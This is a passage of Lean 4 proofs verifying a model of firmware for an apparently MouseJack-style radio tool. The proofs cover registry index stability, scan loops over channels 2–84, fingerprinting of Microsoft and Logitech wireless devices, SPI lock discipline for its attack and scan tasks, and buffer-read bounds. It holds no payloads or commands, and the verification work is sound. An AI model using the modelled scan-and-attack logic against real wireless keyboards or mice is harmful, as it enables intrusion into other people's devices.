theorem indices_stable (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) (s0 : State)
    (pre post : List RegistryOp) (a : List Nat) (l channel : Nat) (type : MjDeviceType)
    (i : Nat)
    (hpre : ∀ op ∈ pre, isAdd op = true) (hpost : ∀ op ∈ post, isAdd op = true)
    (hl : l ≤ a.length)
    (hi : (addTarget k a l channel type (runOps k s0 pre)).1 = (i : Int)) :
    findTarget (runOps k s0 (pre ++ RegistryOp.add a l channel type :: post)) a l = (i : Int) ∧
    (accepts k (runOps k s0 pre) (RegistryOp.add a l channel type) = true →
      i = acceptedCount k (clearTargets k s0) pre) ∧
    (∀ j, j < (runOps k s0 pre).targetCount_ →
      (targetAt (runOps k s0 (pre ++ RegistryOp.add a l channel type :: post)) j).active =
        true ∧
      (targetAt (runOps k s0 (pre ++ RegistryOp.add a l channel type :: post)) j).address =
        (targetAt (runOps k s0 pre) j).address ∧
      (targetAt (runOps k s0 (pre ++ RegistryOp.add a l channel type :: post)) j).addrLen =
        (targetAt (runOps k s0 pre) j).addrLen ∧
      (targetAt (runOps k s0 (pre ++ RegistryOp.add a l channel type :: post)) j).type =
        (targetAt (runOps k s0 pre) j).type) ∧
    (runOps k s0 pre).targetCount_ ≤
      (runOps k s0 (pre ++ RegistryOp.add a l channel type :: post)).targetCount_ := by
  have hsplit : runOps k s0 (pre ++ RegistryOp.add a l channel type :: post) =
      post.foldl (applyOp k) (addTarget k a l channel type (runOps k s0 pre)).2 := by
    unfold runOps
    rw [List.foldl_append, List.foldl_cons]
    rfl
  have hsplit2 : runOps k s0 (pre ++ RegistryOp.add a l channel type :: post) =
      (RegistryOp.add a l channel type :: post).foldl (applyOp k) (runOps k s0 pre) := by
    unfold runOps
    rw [List.foldl_append]
  have hlen : (runOps k s0 pre).targets_.length = k.MJ_MAX_TARGETS := by
    have h := (entries_kept k hcap pre (clearTargets k s0) hpre).2.2
    unfold runOps
    rw [h]
    simp [clearTargets]
  have hact : ActiveBelow k (runOps k s0 pre) :=
    activeBelow_ops k pre _ (activeBelow_clear k s0)
  have hall : ∀ op ∈ RegistryOp.add a l channel type :: post, isAdd op = true := by
    intro op hop
    rcases List.mem_cons.1 hop with h | h
    · rw [h]; rfl
    · exact hpost op h
  obtain ⟨hk1, hk2, _⟩ := entries_kept k hcap _ (runOps k s0 pre) hall
  refine ⟨?_, ?_, ?_, ?_⟩
  · rw [hsplit]
    exact findTarget_stable k hcap a l i post _ hpost
      (findTarget_after_add k hcap a l channel type _ i hlen hl hi)
  · intro hacc
    obtain ⟨hf, hroom⟩ := (accepts_iff k _ a l channel type).1 hacc
    rw [addTarget_new k a l channel type _ hf hroom] at hi
    have hc := count_eq_accepted k hcap pre (clearTargets k s0) hpre
    have h0 : (clearTargets k s0).targetCount_ = 0 := rfl
    rw [h0, Nat.zero_add] at hc
    have hi' : ((runOps k s0 pre).targetCount_ : Int) = (i : Int) := hi
    have := Int.ofNat_inj.1 hi'
    unfold runOps at this
    omega
  · intro j hj
    rw [hsplit2]
    obtain ⟨b1, b2, b3, b4⟩ := hk1 j hj
    exact ⟨by rw [b1]; exact hact.2 j hj, b2, b3, b4⟩
  · rw [hsplit2]
    exact hk2

theorem indices_stable_witness :
    sampleConsts.MJ_MAX_TARGETS ≤ 255 ∧
    (addTarget sampleConsts [2, 2, 2, 2, 2] 5 20 MjDeviceType.MJ_DEVICE_LOGITECH
      (runOps sampleConsts (initState sampleConsts)
        [RegistryOp.add [1, 1, 1, 1, 1] 5 10 MjDeviceType.MJ_DEVICE_MICROSOFT])).1 = (1 : Nat) ∧
    findTarget (runOps sampleConsts (initState sampleConsts)
      ([RegistryOp.add [1, 1, 1, 1, 1] 5 10 MjDeviceType.MJ_DEVICE_MICROSOFT] ++
        RegistryOp.add [2, 2, 2, 2, 2] 5 20 MjDeviceType.MJ_DEVICE_LOGITECH ::
        [RegistryOp.add [1, 1, 1, 1, 1] 5 33 MjDeviceType.MJ_DEVICE_MICROSOFT,
         RegistryOp.add [3, 3, 3, 3, 3] 5 30 MjDeviceType.MJ_DEVICE_LOGITECH]))
      [2, 2, 2, 2, 2] 5 = (1 : Nat) :=
  ⟨by decide, by decide,
    (indices_stable sampleConsts (by decide) (initState sampleConsts)
      [RegistryOp.add [1, 1, 1, 1, 1] 5 10 MjDeviceType.MJ_DEVICE_MICROSOFT]
      [RegistryOp.add [1, 1, 1, 1, 1] 5 33 MjDeviceType.MJ_DEVICE_MICROSOFT,
       RegistryOp.add [3, 3, 3, 3, 3] 5 30 MjDeviceType.MJ_DEVICE_LOGITECH]
      [2, 2, 2, 2, 2] 5 20 MjDeviceType.MJ_DEVICE_LOGITECH 1
      (by decide) (by decide) (by decide) (by decide)).1⟩

/-! ## The loops of the scan task -/

theorem fingerprint_frame (k : MjConsts) (rawBuf : List Nat) (size channel : Nat) (s : State) :
    (fingerprint k rawBuf size channel s).radio = s.radio ∧
    (fingerprint k rawBuf size channel s).stopReads = s.stopReads ∧
    (fingerprint k rawBuf size channel s).stopRequest_ = s.stopRequest_ := by
  have hadd : ∀ (addr : List Nat) (t : MjDeviceType),
      (addTarget k addr 5 channel t s).2.radio = s.radio ∧
      (addTarget k addr 5 channel t s).2.stopReads = s.stopReads ∧
      (addTarget k addr 5 channel t s).2.stopRequest_ = s.stopRequest_ := by
    intro addr t
    rcases findTarget_cases s addr 5 with hf | ⟨i, hf, _⟩
    · by_cases hroom : s.targetCount_ < k.MJ_MAX_TARGETS
      · rw [addTarget_new k addr 5 channel t s hf hroom]
        exact ⟨rfl, rfl, rfl⟩
      · rw [addTarget_full k addr 5 channel t s hf (by omega)]
        exact ⟨rfl, rfl, rfl⟩
    · rw [addTarget_found k addr 5 channel t s i hf]
      exact ⟨rfl, rfl, rfl⟩
  unfold fingerprint
  split
  · unfold fingerprintPayload
    split
    · exact hadd _ _
    · exact ⟨rfl, rfl, rfl⟩
  · exact ⟨rfl, rfl, rfl⟩

/-- A property kept by every step of the `tries` loop is kept by the loop. -/
theorem scanTries_inv (k : MjConsts) (env : ScanEnv) (ch : Nat) (P : State → Prop)
    (hstop : ∀ s, P s → P (scanStop env s).2)
    (hrecv : ∀ n s, P s → P (emit (RadioOp.receive n) s))
    (hfp : ∀ rx s, P s → P (fingerprint k rx rx.length ch s))
    (hdelay : ∀ s, P s → P (emit (RadioOp.delayMicroseconds 200) s)) :
    ∀ (n : Nat) (s : State), P s → P (scanTries k env ch n s) := by
  intro n
  induction n with
  | zero => intro s h; exact h
  | succ n ih =>
    intro s h
    rw [scanTries]
    split
    · exact hstop s h
    · simp only
      apply ih
      apply hdelay
      split
      · exact hfp _ _ (hrecv _ _ (hstop s h))
      · exact hrecv _ _ (hstop s h)

/-- A property kept by every step of the channel loop, for the channels 2 to 84, is kept
by the loop. -/
theorem scanChannels_inv (k : MjConsts) (env : ScanEnv) (P : State → Prop)
    (hstop : ∀ s, P s → P (scanStop env s).2)
    (hchan : ∀ ch s, P s → P (emit (RadioOp.setChannel ch) s))
    (hrecv : ∀ n s, P s → P (emit (RadioOp.receive n) s))
    (hfp : ∀ ch rx s, 2 ≤ ch → ch ≤ 84 → P s → P (fingerprint k rx rx.length ch s))
    (hdelay : ∀ s, P s → P (emit (RadioOp.delayMicroseconds 200) s)) :
    ∀ (fuel ch : Nat) (s : State), 2 ≤ ch → ch + fuel ≤ 85 → P s →
      P (scanChannels k env fuel ch s) := by
  intro fuel
  induction fuel with
  | zero => intro ch s _ _ h; exact h
  | succ fuel ih =>
    intro ch s h2 h85 h
    rw [scanChannels]
    split
    · exact hstop s h
    · simp only
      apply ih (ch + 1) _ (by omega) (by omega)
      exact scanTries_inv k env ch P hstop hrecv (fun rx t ht => hfp ch rx t h2 (by omega) ht)
        hdelay 3 _ (hchan ch _ (hstop s h))

/-! ## Entries made by the scan -/

theorem entryInv_congr (s t : State) (h : t.targets_ = s.targets_) (hs : EntryInv s) :
    EntryInv t := by
  unfold EntryInv targetAt at *
  rw [h]
  exact hs

theorem entryInv_add (k : MjConsts) (addr : List Nat) (channel : Nat) (type : MjDeviceType)
    (s : State) (hty : type ≠ MjDeviceType.MJ_DEVICE_UNKNOWN) (h2 : 2 ≤ channel)
    (h84 : channel ≤ 84) (h : EntryInv s) :
    EntryInv (addTarget k addr 5 channel type s).2 := by
  rcases findTarget_cases s addr 5 with hf | ⟨i, hf, hi⟩
  · by_cases hroom : s.targetCount_ < k.MJ_MAX_TARGETS
    · rw [addTarget_new k addr 5 channel type s hf hroom]
      intro j hj
      rw [targetAt_set s _ s.targetCount_ _ j rfl] at hj ⊢
      by_cases hc : j = s.targetCount_ ∧ s.targetCount_ < s.targets_.length
      · rw [if_pos hc]
        exact ⟨rfl, hty, h2, h84⟩
      · rw [if_neg hc] at hj ⊢
        exact h j hj
    · rw [addTarget_full k addr 5 channel type s hf (by omega)]
      exact h
  · rw [addTarget_found k addr 5 channel type s i hf]
    intro j hj
    rw [targetAt_set s _ i _ j rfl] at hj ⊢
    by_cases hc : j = i ∧ i < s.targets_.length
    · rw [if_pos hc] at hj ⊢
      have hact : (targetAt s i).active = true := hj
      obtain ⟨e1, e2, _, _⟩ := h i hact
      exact ⟨e1, e2, h2, h84⟩
    · rw [if_neg hc] at hj ⊢
      exact h j hj

theorem fingerprintPayloadType_known (payload : List Nat) (size : Nat) (t : MjDeviceType)
    (h : fingerprintPayloadType payload size = some t) :
    t ≠ MjDeviceType.MJ_DEVICE_UNKNOWN := by
  rw [fingerprintPayloadType_cases] at h
  split_ifs at h <;> (injection h with h; rw [← h]; decide)

theorem entryInv_fingerprint (k : MjConsts) (rawBuf : List Nat) (size channel : Nat) (s : State)
    (h2 : 2 ≤ channel) (h84 : channel ≤ 84) (h : EntryInv s) :
    EntryInv (fingerprint k rawBuf size channel s) := by
  unfold fingerprint
  split
  · unfold fingerprintPayload
    split
    · rename_i t hty
      exact entryInv_add k _ channel t s (fingerprintPayloadType_known _ _ t hty) h2 h84 h
    · exact h
  · exact h

theorem entryInv_empty (k : MjConsts) (s0 : State) : EntryInv (clearTargets k s0) := by
  intro i hi
  rw [targetAt_replicate] at hi
  cases hi

theorem entryInv_scanPass (k : MjConsts) (env : ScanEnv) (s : State) (h : EntryInv s) :
    EntryInv (scanPass k env s) := by
  have hemit : ∀ (op : RadioOp) (t : State), EntryInv t → EntryInv (emit op t) :=
    fun _ t ht => entryInv_congr t _ rfl ht
  have hstop : ∀ t : State, EntryInv t → EntryInv (scanStop env t).2 :=
    fun t ht => entryInv_congr t _ rfl ht
  have hchan : ∀ t : State, EntryInv t → EntryInv (scanChannels k env 83 2 t) := fun t ht =>
    scanChannels_inv k env EntryInv hstop (fun _ => hemit _) (fun _ => hemit _)
      (fun ch rx u h2 h84 hu => entryInv_fingerprint k rx rx.length ch u h2 h84 hu)
      (hemit _) 83 2 t (by omega) (by omega) ht
  unfold scanPass
  simp only
  split
  · exact hemit _ _ (hemit _ _ h)
  · exact hemit _ _ (hemit _ _ (hemit _ _ (hchan _ (hemit _ _ (hemit _ _ (hemit _ _ h))))))

theorem entryInv_scanTask (k : MjConsts) (c : TaskConsts) (env : ScanEnv) :
    ∀ (fuel : Nat) (s s2 : State), EntryInv s → scanTask k c env fuel s = some s2 →
      EntryInv s2 := by
  intro fuel
  induction fuel with
  | zero => intro s s2 _ h; cases h
  | succ fuel ih =>
    intro s s2 hs h
    rw [scanTask] at h
    split at h
    · injection h with h
      rw [← h]
      exact entryInv_congr s _ rfl hs
    · exact ih _ s2
        (entryInv_scanPass k env (scanStop env s).2 (entryInv_congr s (scanStop env s).2 rfl hs))
        h

/-- C39. In every registry state reached from an empty registry by captures handed to
`fingerprint` on channels 2 to 84, as the sweep of `scanTask` does, every active entry
has address length 5, a device type other than Unknown (Microsoft, encrypted Microsoft
or Logitech) and a channel from 2 to 84. -/
theorem scanned_entries_wellformed (k : MjConsts) (c : TaskConsts) (s0 : State) :
    (∀ caps : List (List Nat × Nat × Nat), (∀ cap ∈ caps, 2 ≤ cap.2.2 ∧ cap.2.2 ≤ 84) →
      EntryInv (caps.foldl (fun t cap => fingerprint k cap.1 cap.2.1 cap.2.2 t)
        (clearTargets k s0))) ∧
    (∀ (env : ScanEnv) (fuel : Nat) (s2 : State),
      scanTask k c env fuel (clearTargets k s0) = some s2 → EntryInv s2) ∧
    (∀ (env : ScanEnv) (fuel : Nat) (s s2 : State), EntryInv s →
      scanTask k c env fuel s = some s2 → EntryInv s2) ∧
    (∀ t : MjDeviceType, t ≠ MjDeviceType.MJ_DEVICE_UNKNOWN →
      t = MjDeviceType.MJ_DEVICE_MICROSOFT ∨ t = MjDeviceType.MJ_DEVICE_MS_CRYPT ∨
      t = MjDeviceType.MJ_DEVICE_LOGITECH) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro caps
    have key : ∀ (caps : List (List Nat × Nat × Nat)) (s : State),
        (∀ cap ∈ caps, 2 ≤ cap.2.2 ∧ cap.2.2 ≤ 84) → EntryInv s →
        EntryInv (caps.foldl (fun t cap => fingerprint k cap.1 cap.2.1 cap.2.2 t) s) := by
      intro caps
      induction caps with
      | nil => intro s _ h; exact h
      | cons cap rest ih =>
        intro s hc h
        rw [List.foldl_cons]
        exact ih _ (fun x hx => hc x (List.mem_cons_of_mem _ hx))
          (entryInv_fingerprint k _ _ _ s (hc cap (List.mem_cons_self _ _)).1
            (hc cap (List.mem_cons_self _ _)).2 h)
    intro hc
    exact key caps _ hc (entryInv_empty k s0)
  · intro env fuel s2 h
    exact entryInv_scanTask k c env fuel _ s2 (entryInv_empty k s0) h
  · intro env fuel s s2 hs h
    exact entryInv_scanTask k c env fuel s s2 hs h
  · intro t ht
    cases t
    · exact absurd rfl ht
    · exact Or.inl rfl
    · exact Or.inr (Or.inl rfl)
    · exact Or.inr (Or.inr rfl)

theorem scanned_entries_wellformed_witness :
    (∀ cap ∈ [(sampleCapture, 19, 5)], 2 ≤ cap.2.2 ∧ cap.2.2 ≤ 84) ∧
    targetAt ([(sampleCapture, 19, 5)].foldl
      (fun t cap => fingerprint sampleConsts cap.1 cap.2.1 cap.2.2 t)
      (clearTargets sampleConsts (initState sampleConsts))) 0 =
      ⟨[161, 178, 195, 212, 229], 5, 5, MjDeviceType.MJ_DEVICE_LOGITECH, true⟩ ∧
    EntryInv ([(sampleCapture, 19, 5)].foldl
      (fun t cap => fingerprint sampleConsts cap.1 cap.2.1 cap.2.2 t)
      (clearTargets sampleConsts (initState sampleConsts))) :=
  ⟨by decide, by decide,
    (scanned_entries_wellformed sampleConsts sampleTaskConsts (initState sampleConsts)).1
      [(sampleCapture, 19, 5)] (by decide)⟩

/-! ## The lock discipline of the two tasks -/

theorem lockTrace_append (a b : List RadioOp) :
    ∀ held : Bool, lockTrace held (a ++ b) = (lockTrace held a).bind (fun h => lockTrace h b) := by
  induction a with
  | nil => intro held; rfl
  | cons op rest ih =>
    intro held
    cases op <;> cases held <;> simp [lockTrace, isPrimitive, ih]

theorem lockState_extend (pre : List RadioOp) (held held2 : Bool) (s t : State)
    (ext : List RadioOp) (hr : t.radio = s.radio ++ ext)
    (hop : lockTrace held ext = some held2) (h : LockState pre held s) :
    LockState pre held2 t := by
  obtain ⟨ops, hrs, hl⟩ := h
  refine ⟨ops ++ ext, by rw [hr, hrs, List.append_assoc], ?_⟩
  rw [lockTrace_append, hl]
  exact hop

theorem lockState_emit (pre : List RadioOp) (held held2 : Bool) (s : State) (op : RadioOp)
    (hop : lockTrace held [op] = some held2) (h : LockState pre held s) :
    LockState pre held2 (emit op s) :=
  lockState_extend pre held held2 s (emit op s) [op] rfl hop h

theorem lockState_same (pre : List RadioOp) (held : Bool) (s t : State)
    (hr : t.radio = s.radio) (h : LockState pre held s) : LockState pre held t :=
  lockState_extend pre held held s t [] (by rw [hr, List.append_nil]) rfl h

/-- While the lock is held, the steps of the attack loops respect it. -/
theorem lock_steps (env : AttackEnv) (target : MjTarget) (pre : List RadioOp)
    (T : List MjTarget) :
    StepInv env target (fun t => LockState pre true t ∧ t.targets_ = T) where
  ms := fun _ m h s hs =>
    ⟨lockState_extend pre true true s _ _ (msTransmit_radio target m h s) rfl hs.1, hs.2⟩
  log := fun _ _ _ _ s hs =>
    ⟨lockState_emit pre true true s _ rfl hs.1, hs.2⟩
  delay := fun _ s hs => ⟨lockState_emit pre true true s _ rfl hs.1, hs.2⟩
  stop := fun s hs => ⟨lockState_same pre true s _ rfl hs.1, hs.2⟩

theorem attackSession_lock (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (s : State) : LockState s.radio false (attackSession c env params s) := by
  have hinv := lock_steps env (targetAt s params.targetIndex) s.radio s.targets_
  have hbody : ∀ t : State, (LockState s.radio true t ∧ t.targets_ = s.targets_) →
      (LockState s.radio true (attackBody c env params (targetAt s params.targetIndex) t) ∧
        (attackBody c env params (targetAt s params.targetIndex) t).targets_ = s.targets_) :=
    fun t ht =>
    attackBody_inv c env params (targetAt s params.targetIndex)
      (fun t => LockState s.radio true t ∧ t.targets_ = s.targets_) hinv
      (fun s1 h1 => by unfold targetAt; rw [h1.2]) t ht
  have hsync : isMicrosoft (targetAt s params.targetIndex) = true → ∀ t : State,
      (LockState s.radio true t ∧ t.targets_ = s.targets_) →
      (LockState s.radio true (msSync (targetAt s params.targetIndex) 6 t) ∧
        (msSync (targetAt s params.targetIndex) 6 t).targets_ = s.targets_) := fun hm t ht =>
    msSync_inv (targetAt s params.targetIndex)
      (fun t => LockState s.radio true t ∧ t.targets_ = s.targets_)
      (fun m h s1 h1 => hinv.ms hm m h s1 h1) 6 t ht
  have hcfg : ∀ t : State, (LockState s.radio true t ∧ t.targets_ = s.targets_) →
      (LockState s.radio true (if isMicrosoft (targetAt s params.targetIndex) = true then
          msSync (targetAt s params.targetIndex) 6 { t with msSequence_ := 0 }
        else t) ∧
       (if isMicrosoft (targetAt s params.targetIndex) = true then
          msSync (targetAt s params.targetIndex) 6 { t with msSequence_ := 0 }
        else t).targets_ = s.targets_) := fun t ht => by
    by_cases hm : isMicrosoft (targetAt s params.targetIndex) = true
    · rw [if_pos hm]
      exact hsync hm _ ⟨lockState_same s.radio true t _ rfl ht.1, ht.2⟩
    · rw [if_neg hm]
      exact ht
  have hemit : ∀ (op : RadioOp) (t : State), lockTrace true [op] = some true →
      (LockState s.radio true t ∧ t.targets_ = s.targets_) →
      (LockState s.radio true (emit op t) ∧ (emit op t).targets_ = s.targets_) :=
    fun op t hop ht => ⟨lockState_emit s.radio true true t op hop ht.1, ht.2⟩
  have h0 : LockState s.radio false s := ⟨[], by rw [List.append_nil], rfl⟩
  unfold attackSession
  simp only
  by_cases hacq : env.acquireSpi = true
  · rw [if_pos hacq, hacq]
    have h1 : LockState s.radio true (emit (RadioOp.acquireSpi true) s) ∧
        (emit (RadioOp.acquireSpi true) s).targets_ = s.targets_ :=
      ⟨lockState_emit s.radio false true s _ rfl h0, rfl⟩
    have h2 := hbody _ (hcfg _
      (hemit (RadioOp.setTxMode (targetAt s params.targetIndex).address
          (targetAt s params.targetIndex).addrLen) _ rfl
        (hemit (RadioOp.setAddressWidth 5) _ rfl
          (hemit (RadioOp.setChannel (targetAt s params.targetIndex).channel) _ rfl
            (hemit (RadioOp.setPALevel 3) _ rfl (hemit RadioOp.setDataRate _ rfl h1))))))
    exact lockState_emit s.radio true false _ _ rfl (hemit RadioOp.ceLow _ rfl h2).1
  · have hf : env.acquireSpi = false := by
      cases h : env.acquireSpi
      · rfl
      · exact absurd h hacq
    rw [if_neg hacq, hf]
    exact lockState_emit s.radio false false s _ rfl h0

/-- One pass of the scan loop takes and gives back the lock. -/
theorem scanPass_lock (k : MjConsts) (env : ScanEnv) (pre : List RadioOp) (s : State)
    (h : LockState pre false s) : LockState pre false (scanPass k env s) := by
  have hchan : ∀ t : State, LockState pre true t →
      LockState pre true (scanChannels k env 83 2 t) := fun t ht =>
    scanChannels_inv k env (LockState pre true)
      (fun u hu => lockState_same pre true u _ rfl hu)
      (fun ch u hu => lockState_emit pre true true u _ rfl hu)
      (fun n u hu => lockState_emit pre true true u _ rfl hu)
      (fun ch rx u _ _ hu =>
        lockState_same pre true u _ (fingerprint_frame k rx rx.length ch u).1 hu)
      (fun u hu => lockState_emit pre true true u _ rfl hu)
      83 2 t (by omega) (by omega) ht
  unfold scanPass
  simp only
  cases hok : env.acquireSpi s.radio.length
  · simp only [Bool.not_false, if_true]
    exact lockState_emit pre false false _ _ rfl (lockState_emit pre false false s _ rfl h)
  · simp only [Bool.not_true, Bool.false_eq_true, if_false]
    have h1 : LockState pre true (emit (RadioOp.acquireSpi true) s) :=
      lockState_emit pre false true s _ rfl h
    have h2 : LockState pre true (emit RadioOp.setPromiscuousMode
        (emit RadioOp.setDataRate (emit (RadioOp.acquireSpi true) s))) :=
      lockState_emit pre true true _ _ rfl (lockState_emit pre true true _ _ rfl h1)
    have h3 := hchan _ h2
    exact lockState_emit pre false false _ _ rfl
      (lockState_emit pre true false _ _ rfl (lockState_emit pre true true _ _ rfl h3))

theorem scanTask_lock (k : MjConsts) (c : TaskConsts) (env : ScanEnv) (pre : List RadioOp) :
    ∀ (fuel : Nat) (s s2 : State), LockState pre false s →
      scanTask k c env fuel s = some s2 → LockState pre false s2 := by
  intro fuel
  induction fuel with
  | zero => intro s s2 _ h; cases h
  | succ fuel ih =>
    intro s s2 hs h
    rw [scanTask] at h
    split at h
    · injection h with h
      rw [← h]
      exact lockState_same pre false s _ rfl hs
    · exact ih _ s2
        (scanPass_lock k env pre (scanStop env s).2
          (lockState_same pre false s (scanStop env s).2 rfl hs)) h

/-! ### The scan task ends once the stop flag stays set -/

theorem scanPass_reads (k : MjConsts) (env : ScanEnv) (n : Nat) (s : State)
    (h : n ≤ s.stopReads) : n ≤ (scanPass k env s).stopReads := by
  have hemit : ∀ (op : RadioOp) (t : State), n ≤ t.stopReads → n ≤ (emit op t).stopReads :=
    fun _ _ ht => ht
  have hchan : ∀ t : State, n ≤ t.stopReads → n ≤ (scanChannels k env 83 2 t).stopReads :=
    fun t ht =>
    scanChannels_inv k env (fun u => n ≤ u.stopReads)
      (fun u hu => Nat.le_succ_of_le hu) (fun _ => hemit _) (fun _ => hemit _)
      (fun ch rx u _ _ hu => by
        show n ≤ (fingerprint k rx rx.length ch u).stopReads
        rw [(fingerprint_frame k rx rx.length ch u).2.1]; exact hu)
      (hemit _) 83 2 t (by omega) (by omega) ht
  unfold scanPass
  simp only
  split
  · exact hemit _ _ (hemit _ _ h)
  · exact hemit _ _ (hemit _ _ (hemit _ _ (hchan _ (hemit _ _ (hemit _ _ (hemit _ _ h))))))

theorem scanTask_ends (k : MjConsts) (c : TaskConsts) (env : ScanEnv) :
    ∀ (fuel : Nat) (s : State),
      (∀ n, s.stopReads + fuel ≤ n → env.stopAt n = true) →
      (scanTask k c env (fuel + 1) s).isSome = true := by
  intro fuel
  induction fuel with
  | zero =>
    intro s h
    have hstop : (scanStop env s).1 = true := by
      show (s.stopRequest_ || env.stopAt s.stopReads) = true
      rw [h s.stopReads (by omega), Bool.or_true]
    rw [scanTask, if_pos hstop]
    rfl
  | succ fuel ih =>
    intro s h
    rw [scanTask]
    split
    · rfl
    · apply ih
      intro n hn
      have hmono := scanPass_reads k env (s.stopReads + 1) (scanStop env s).2 (Nat.le_refl _)
      exact h n (by omega)


/-- C34. In the trace of lock and radio operations that a run of the attack context or of
the scan context appends, every radio primitive stands between a successful lock
acquisition and the next release, every successful acquisition is followed by one release
before the context ends, and the trace ends with the lock free; the scan context does end
once the stop flag stays set. -/
theorem lock_discipline (k : MjConsts) (c : TaskConsts) :
    (∀ (env : AttackEnv) (params : AttackParams) (s : State),
      ∃ ops : List RadioOp, (attackTask c env params s).radio = s.radio ++ ops ∧
        lockTrace false ops = some false) ∧
    (∀ (env : ScanEnv) (fuel : Nat) (s s2 : State), scanTask k c env fuel s = some s2 →
      ∃ ops : List RadioOp, s2.radio = s.radio ++ ops ∧ lockTrace false ops = some false) ∧
    (∀ (env : ScanEnv) (fuel : Nat) (s : State),
      (∀ n, s.stopReads + fuel ≤ n → env.stopAt n = true) →
      (scanTask k c env (fuel + 1) s).isSome = true) := by
  refine ⟨?_, ?_, ?_⟩
  · intro env params s
    exact attackSession_lock c env params s
  · intro env fuel s s2 h
    exact scanTask_lock k c env s.radio fuel s s2 ⟨[], by rw [List.append_nil], rfl⟩ h
  · intro env fuel s h
    exact scanTask_ends k c env fuel s h

theorem lock_discipline_witness :
    (∀ n, (initState sampleConsts).stopReads + 3 ≤ n →
      (ScanEnv.mk (fun _ => true) (fun _ => sampleCapture) (fun n => decide (3 ≤ n))).stopAt n
        = true) ∧
    (scanTask sampleConsts sampleTaskConsts
      (ScanEnv.mk (fun _ => true) (fun _ => sampleCapture) (fun n => decide (3 ≤ n))) 4
      (initState sampleConsts)).isSome = true ∧
    (scanTask sampleConsts sampleTaskConsts
      (ScanEnv.mk (fun _ => true) (fun _ => sampleCapture) (fun n => decide (3 ≤ n))) 4
      (initState sampleConsts)).map (fun s => s.radio) =
      some [RadioOp.acquireSpi true, RadioOp.setDataRate, RadioOp.setPromiscuousMode,
        RadioOp.setChannel 2, RadioOp.receive 19, RadioOp.delayMicroseconds 200,
        RadioOp.ceLow, RadioOp.releaseSpi, RadioOp.vTaskDelay 50] ∧
    lockTrace false [RadioOp.acquireSpi true, RadioOp.setDataRate, RadioOp.setPromiscuousMode,
        RadioOp.setChannel 2, RadioOp.receive 19, RadioOp.delayMicroseconds 200,
        RadioOp.ceLow, RadioOp.releaseSpi, RadioOp.vTaskDelay 50] = some false ∧
    lockTrace false [RadioOp.setChannel 2, RadioOp.acquireSpi true, RadioOp.releaseSpi] = none ∧
    lockTrace false [RadioOp.acquireSpi true, RadioOp.setChannel 2] = some true :=
  ⟨fun n hn => by
      have h3 : 3 ≤ n := by
        have h0 : (initState sampleConsts).stopReads = 0 := rfl
        omega
      simp [h3],
    (lock_discipline sampleConsts sampleTaskConsts).2.2
      (ScanEnv.mk (fun _ => true) (fun _ => sampleCapture) (fun n => decide (3 ≤ n))) 3
      (initState sampleConsts) (fun n hn => by
        have h3 : 3 ≤ n := by
          have h0 : (initState sampleConsts).stopReads = 0 := rfl
          omega
        simp [h3]),
    by decide, by decide, by decide, by decide⟩

/-! ## The indices read by `fingerprint` and `fingerprintPayload` -/

theorem shiftReads_bound (size i : Nat) (h : i ∈ shiftReads size) : i < size := by
  unfold shiftReads at h
  rw [List.mem_flatMap] at h
  obtain ⟨x, hx, hi⟩ := h
  rw [List.mem_reverse, List.mem_range] at hx
  split at hi
  · simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at hi
    omega
  · simp only [List.mem_singleton] at hi
    omega

theorem trialReads_bound (buf : List Nat) (size i : Nat) (h10 : 10 ≤ size)
    (h : i ∈ trialReads buf size) : i < size := by
  unfold trialReads at h
  simp only at h
  rw [List.mem_append] at h
  rcases h with h | h
  · simp only [List.mem_singleton] at h
    omega
  · split at h
    · cases h
    · rename_i hlen
      have h1 : (buf.getD 5 0 >>> 2 : Int) ≤ (size : Int) - 9 := by
        by_contra hc
        exact hlen (Or.inr (by omega))
      have h2 : buf.getD 5 0 >>> 2 + 9 ≤ size := by omega
      simp only [List.mem_append, List.mem_cons, List.mem_singleton, List.not_mem_nil,
        or_false, List.mem_range] at h
      rcases h with ((h | h) | h) | h
      · omega
      · omega
      · omega
      · split at h
        · cases h
        · simp only [List.mem_append, List.mem_range, List.mem_flatMap, List.mem_cons,
            List.mem_singleton, List.not_mem_nil, or_false] at h
          rcases h with h | ⟨x, hx, hxi⟩
          · omega
          · omega

theorem payloadReads_bound (payload : List Nat) (L i : Nat) (hL : 1 ≤ L)
    (h : i ∈ payloadReads payload L) : i < L := by
  unfold payloadReads at h
  simp only at h
  split_ifs at h <;>
    simp only [List.mem_append, List.mem_cons, List.mem_singleton, List.not_mem_nil,
      or_false, false_or, or_self, List.append_nil, List.nil_append] at h <;> omega

theorem trial_length_check (buf : List Nat) (size : Nat)
    (h : ¬ (buf.getD 5 0 >>> 2 = 0 ∨ ((buf.getD 5 0 >>> 2 : Nat) : Int) > (size : Int) - 9)) :
    1 ≤ buf.getD 5 0 >>> 2 ∧ 8 + buf.getD 5 0 >>> 2 ≤ size - 1 := by
  have h0 : ¬ buf.getD 5 0 >>> 2 = 0 := fun hc => h (Or.inl hc)
  have h1 : ¬ ((buf.getD 5 0 >>> 2 : Nat) : Int) > (size : Int) - 9 := fun hc => h (Or.inr hc)
  omega


/-- C31. For every call `fingerprint(rawBuf, size, channel)` whose capture holds at least
`min size 37` bytes, every index at which the working buffer is read is below
`min size 37`, the bytes copied into it; when the length check passes `8 + L` is at most
`min size 37 - 1`; the payload length handed on is between 1 and 28, below the 32 bytes
of the payload buffer; and `fingerprintPayload` reads payload indices below that length
only. -/
theorem reads_in_bounds (rawBuf : List Nat) (size : Nat)
    (hraw : min size 37 ≤ rawBuf.length) :
    (∀ i ∈ fingerprintReads rawBuf size, i < min size 37) ∧
    (∀ offset, (alignedBuf rawBuf (min size 37) offset).length = min size 37) ∧
    (∀ offset, 10 ≤ size →
      ¬ ((alignedBuf rawBuf (min size 37) offset).getD 5 0 >>> 2 = 0 ∨
        (((alignedBuf rawBuf (min size 37) offset).getD 5 0 >>> 2 : Nat) : Int) >
          ((min size 37 : Nat) : Int) - 9) →
      8 + (alignedBuf rawBuf (min size 37) offset).getD 5 0 >>> 2 ≤ min size 37 - 1 ∧
      (alignedBuf rawBuf (min size 37) offset).getD 5 0 >>> 2 ≤ 28) ∧
    (∀ (addr payload : List Nat) (L : Nat),
      fingerprintFrame rawBuf size = some (addr, payload, L) →
